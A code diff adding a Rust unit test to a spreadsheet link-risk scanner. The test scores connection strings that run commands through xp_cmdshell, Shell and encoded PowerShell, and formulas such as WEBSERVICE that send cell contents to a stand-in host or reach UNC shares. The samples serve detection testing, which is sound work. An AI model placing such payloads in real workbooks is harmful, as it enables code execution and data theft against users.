@@ -702,6 +702,66 @@ mod tests {
         assert_eq!(template.command, None);
     }
 
+    /// Spreadsheet specification, sections 1.5 and 1.6: the target is the server or the first
+    /// argument, the command and the function stand in the text around it.
+    #[test]
+    fn what_stands_beside_the_target() {
+        let of = |carrier, target: &str, raw: &str, trigger| {
+            let mut link = link(Kind::ExternalLink, carrier);
+            link.target = Some(target.to_owned());
+            link.raw = raw.to_owned();
+            link.trigger = trigger;
+            judge(link, &Policy::default())
+        };
+        for (target, raw) in [
+            (
+                "10.1.1.1",
+                "connection=\"DRIVER=SQL;SERVER=10.1.1.1\" command=\"EXEC xp_cmdshell 'calc'\"",
+            ),
+            ("C:\\a.mdb", "command=\"SELECT Shell('cmd /c calc')\""),
+            ("C:\\a.mdb", "command=\"SELECT Shell ('calc.exe')\""),
+            (
+                "x",
+                "connection=\"SERVER=x;APP=powershell -enc aaaa\" serverCommand=\"EXEC master..xp_cmdshell 'calc'\"",
+            ),
+        ] {
+            let query = of(Carrier::Connection, target, raw, Trigger::Update);
+            assert_eq!(query.score, 85, "{raw}");
+        }
+        let address = "http://example.invalid/a";
+        for (target, raw) in [
+            (address, "_xlfn.WEBSERVICE(\"http://example.invalid/a\"&A1)"),
+            (address, "_xlfn.IMAGE(\"http://example.invalid/a\")"),
+            (
+                "\\\\10.0.0.9\\s\\a.png",
+                "IMAGE(\"\\\\10.0.0.9\\s\\a.png\")",
+            ),
+        ] {
+            let function = of(Carrier::Function, target, raw, Trigger::Update);
+            assert_eq!(rules(&function), ["fetching-function"], "{raw}");
+            assert_eq!((function.score, function.severity), (40, Severity::Medium));
+            assert!(function.signals[0].evidence.ends_with(target), "{raw}");
+        }
+        let raw = "HYPERLINK(\"http://example.invalid/a\",\"x\")";
+        let click = of(Carrier::Function, address, raw, Trigger::Click);
+        assert_eq!(rules(&click), ["ordinary-hyperlink"]);
+        let raw = "HYPERLINK(\"\\\\server\\s\\a.docx\")";
+        let click = of(
+            Carrier::Function,
+            "\\\\server\\s\\a.docx",
+            raw,
+            Trigger::Click,
+        );
+        assert_eq!(click.score, 25);
+        let server = of(
+            Carrier::Function,
+            "tos.rtd",
+            "RTD(\"tos.rtd\",,\"LAST\")",
+            Trigger::Update,
+        );
+        assert!(server.score < 11);
+    }
+
     #[test]
     fn classes_of_links() {
         let of = |class: &str, target: &str| {
